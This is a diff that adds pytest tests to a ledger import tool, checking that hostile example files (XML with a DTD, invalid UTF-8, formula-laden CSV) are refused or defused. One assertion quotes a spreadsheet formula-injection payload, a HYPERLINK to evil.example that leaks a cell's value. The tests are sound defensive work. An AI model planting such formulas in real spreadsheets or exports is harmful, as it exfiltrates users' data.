@@ -269,3 +269,29 @@ class TestCsvDialects:
         text = "Date,Payer,Amount,Ref,Text\n2025-03-01,A,1.00,R1,x\n"
         rows = _rows(tmp_path, f'encoding = "{encoding}"\n' + CSV_MAP, bom + text.encode(encoding))
         assert rows[0].day.isoformat() == "2025-03-01" and not rows[0].problem
+
+
+HOSTILE = EXAMPLES / "hostile"
+
+
+class TestShippedHostileExamples:
+    """The hostile statements under ledgers/examples/hostile/, each refused or defused end to end."""
+
+    @pytest.mark.parametrize("name", ["entity-expansion.xml", "external-entity.xml"])
+    def test_xml_with_a_dtd(self, fund, name):
+        line = refused_in_one_line(fund, f"import {HOSTILE / name}")
+        assert line.endswith("XML with a document type declaration (DTD) is refused: it can expand entities")
+
+    def test_invalid_utf8(self, fund):
+        line = refused_in_one_line(fund, f"import {HOSTILE / 'invalid-utf8.csv'} --map {HOSTILE / 'hostile.map.toml'}")
+        assert "is not valid utf-8: byte b'\\xff' on line 3" in line
+
+    def test_formula_text(self, fund, tmp_path):
+        out = tmp_path / "left.csv"
+        command = f"import {HOSTILE / 'formula-text.csv'} --map {HOSTILE / 'hostile.map.toml'} --record-matched"
+        result = fund(f"{command} --unmatched {out}")
+        assert result.stdout.splitlines()[0] == "Recorded 1 entries (#3-#3); skipped 0 already recorded."
+        with open(out, encoding="utf-8", newline="") as handle:
+            (row,) = list(csv.DictReader(handle))
+        assert row["payer"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
+        assert (row["amount"], row["direction"], row["reference"], row["memo"]) == ("25.50", "debit", "'+R2", "'-2+3")
